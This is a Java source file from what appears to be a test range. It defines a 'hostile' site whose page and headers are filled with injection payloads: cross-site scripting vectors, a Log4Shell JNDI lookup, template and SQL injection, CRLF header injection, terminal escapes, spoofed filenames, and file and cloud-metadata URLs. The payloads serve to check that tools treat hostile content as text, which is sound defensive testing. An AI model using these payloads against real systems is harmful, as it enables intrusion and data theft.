package io.glacis.range.page;

import io.glacis.range.web.Reply;
import io.glacis.range.web.Request;
import io.glacis.range.web.Site;
import io.glacis.range.web.SiteKind;
import io.glacis.range.world.World;
import io.glacis.range.world.WorldSite;
import java.nio.file.Path;
import java.util.List;

/// `hostile`: content that attacks whoever shows, logs, renders or evaluates it.
public final class HostileKind implements SiteKind {
    /// Each is harmless where it is treated as text.
    static final List<String> STRINGS =
            List.of(
                    "</title><script>window.__glacisHostile=1</script>",
                    "\"><img src=x onerror=window.__glacisHostile=1>",
                    "javascript:/*--></title></style></textarea></script><svg/onload="
                            + "'+/\"/+/onmouseover=1/+/[*/[]/+window.__glacisHostile=1//'>",
                    "\u001b[2J\u001b]0;owned\u0007\u001b[31mred\u001b[0m",
                    "${jndi:ldap://192.0.2.1/a}",
                    "#{7*7} ${7*7} {{7*7}} {#if true}{7*7}{/if} <%= 7*7 %>",
                    "\u202Egpj.exe\u202C\u2066isolated\u2069",
                    "=HYPERLINK(\"https://192.0.2.1\",\"click\")",
                    "'; DROP TABLE finding; --",
                    "%0d%0aSet-Cookie:%20owned=1",
                    "file:///etc/passwd http://169.254.169.254/latest/meta-data/");

    @Override
    public String kind() {
        return "hostile";
    }

    @Override
    public Site build(WorldSite site, World world, Path workFolder) {
        site.read().allow("title");
        String prefix = site.read().text("title", "");
        Reply page =
                Reply.html(
                                200,
                                "<!DOCTYPE html><html><head><title>"
                                        + prefix
                                        + STRINGS.get(5)
                                        + STRINGS.get(6)
                                        + STRINGS.get(0)
                                        + "</title></head><body>"
                                        + String.join("<hr>\n", STRINGS)
                                        + "<iframe src=\"file:///etc/passwd\"></iframe>"
                                        + "<a href=\"javascript:alert(1)\">link</a>"
                                        + "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>"
                                        + "</body></html>")
                        .withHeader("Server", "${jndi:ldap://192.0.2.1/a}")
                        .withHeader("X-Powered-By", "<script>window.__glacisHostile=1</script>")
                        .withHeader("X-Title", "=1+1 {7*7} #{7*7}");
        Reply missing = Reply.html(404, "<title>" + STRINGS.get(1) + "</title>");
        return request -> isFront(request) ? page : missing;
    }

    private static boolean isFront(Request request) {
        return request.path().equals("/");
    }
}
